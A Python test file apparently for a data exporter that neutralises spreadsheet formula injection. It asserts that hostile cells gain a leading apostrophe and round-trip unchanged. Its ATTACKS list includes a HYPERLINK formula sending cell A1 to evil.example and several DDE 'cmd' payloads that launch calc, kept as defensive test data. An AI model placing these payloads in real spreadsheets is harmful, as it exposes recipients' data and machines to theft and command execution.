"""Cells of the tables that we give out: none is a formula, and all come back as they were."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from hub_finder.importers.cells import as_it_was, disarmed

SIGNS = "=+-@\t\r＝＋－＠"
# What spreadsheets were seen to run.
ATTACKS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Error")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "-1+cmd",
    "+44=cmd",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_begins_with_an_apostrophe(attack: str) -> None:
    assert disarmed(attack) == f"'{attack}"


@pytest.mark.parametrize(
    "plain", ["-2.4371", "+44 (0)1305 251010", "-1", "Stay and play", "'tis", "", "O'Brien", "a=b"]
)
def test_number_or_words_stay_as_they_are(plain: str) -> None:
    assert disarmed(plain) == plain
    assert as_it_was(plain) == plain


@pytest.mark.parametrize("value", [None, 3, -3, 2.5])
def test_what_is_no_text_stays_as_it_is(value: object) -> None:
    assert disarmed(value) == value


@given(st.text(alphabet=st.one_of(st.sampled_from(f"'{SIGNS}1 a"), st.characters())))
@example("'=1")
@example("''=1")
@example("'+44")
def test_every_cell_comes_back_as_it_was(text: str) -> None:
    cell = disarmed(text)

    assert as_it_was(cell) == text
    assert cell[:1] not in SIGNS or cell[:2].strip("+-").isdecimal() or not cell
